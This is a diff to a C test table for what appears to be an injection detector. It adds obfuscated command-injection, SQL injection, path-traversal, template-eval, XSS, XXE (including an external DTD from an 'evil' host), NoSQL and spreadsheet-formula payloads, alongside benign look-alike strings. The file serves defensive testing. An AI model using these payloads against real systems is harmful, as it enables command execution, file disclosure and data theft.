@@ -34,6 +34,33 @@ static const struct dcase dcases[] = {
 	{ "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", B(XXE) },
 	{ "../../etc/passwd", B(LFI) }, { "php://filter/resource=x", B(LFI) }, { "%2e%2e%2f%2e%2e%2fetc%2fshadow", B(LFI) },
 	{ "=HYPERLINK(\"http://x\")", B(CSV) }, { "@SUM(1+1)*cmd|' /C calc'!A0", B(CSV) },
+	/* second corpus's mechanisms (own strings): shell words built at run time, unlisted programs */
+	{ "a; /u?r/bin/w?oami", B(CMD) }, { "a|{ls,-la,/}", B(CMD) }, { "a&&$'\\x6c\\x73'", B(CMD) },
+	{ "q;v=wh;w=oami;$v$w", B(CMD) }, { "1;nmap -p 22 10.0.0.1", B(CMD) }, { "`mytool --dump`", B(CMD) },
+	{ "x;${HOME:0:1}bin${HOME:0:1}ls", B(CMD) },
+	/* SQL as a lexer reads it; prose after SQL words is not SQL */
+	{ "1e1union select null", B(SQL) }, { "\\' or 2>1-- ", B(SQL) }, { "$$ or 1=1--", B(SQL) },
+	{ "x';exec('sel'+'ect 2')--", B(SQL) }, { "&#39;&#32;&#111;&#114;&#32;&#39;&#97;&#39;&#61;&#39;&#97;", B(SQL) },
+	/* paths after normalisation, sensitive by place */
+	{ "/etc//shadow", B(LFI) }, { "..%u2216..%u2216boot.ini", B(LFI) }, { "/proc/./self/environ", B(LFI) },
+	{ "\\\\10.0.0.9\\c$\\x", B(LFI) }, { "..\xef\xbc\x8f..\xef\xbc\x8f" "etc\xef\xbc\x8f" "group", B(LFI) },
+	/* templates and evaluators' own delimiters */
+	{ "{{ 3 * 3 }}", B(CODE) }, { "${ '9' * 2 }", B(CODE) }, { "<?= `whoami` ?>", B(CODE) }, { "'.passthru('ls').'", B(CODE) },
+	{ "{exec('uname')}", B(CODE) },
+	{ "<meta http-equiv=refresh content='1;URL=JaVaScRiPt:alert(2)'>", B(XSS) },
+	{ "&#60;&#115;&#99;&#114;&#105;&#112;&#116;&#62;", B(XSS) },
+	{ "<!DOCTYPE r PUBLIC \"-//A//B\" \"http://evil/x.dtd\"><r/>", B(XXE) },
+	{ "<xsl:value-of select=\"unparsed-text('/etc/hosts')\"/>", B(XXE) },
+	{ "{$where: sleep(50)}", B(NOSQL) },
+	{ "= B2*3", B(CSV) }, { "=$C$4-1", B(CSV) }, { "-2+5", B(CSV) }, { "=\tMAX (1,2)", B(CSV) },
+	/* benign look-alikes of the second corpus's kinds */
+	{ "grep -r foo . | sort", 0 }, { "| name | type |\n|---|---|", 0 }, { "first; second; third", 0 },
+	{ "/* comment */", 0 }, { "3 > 2 and 4 < 5, obviously", 0 }, { "she wrote 'group by' twice", 0 },
+	{ "<a href=\"#top\">up</a>", 0 }, { "/var/www/site/about.html", 0 }, { "\\\\printsrv\\queue\\a", 0 },
+	{ "# we dropped os.popen() here", 0 }, { "{\"$comment\": \"hello\"}", 0 }, { "+1-202-555-0187", 0 },
+	{ "-7,5", 0 }, { "if (n > 0 && m < 9) { return true; }", 0 }, { "<pre>if (a &lt; b) { x(); }</pre>", 0 },
+	{ "Traceback:\n  File \"m.py\", line 1", 0 }, { "sudo apt-get update && sudo apt-get install -y jq", 0 },
+	{ "docker run -v $(pwd):/src img", 0 },
 	/* benign look-alikes */
 	{ "O'Brien", 0 }, { "It's 5 o'clock; or later?", 0 }, { "The union of two sets", 0 }, { "Tom & Jerry", 0 },
 	{ "Please select one and update the list", 0 }, { "Use `ls -la` to list", 0 }, { "<p>Hi <b>there</b></p>", 0 },
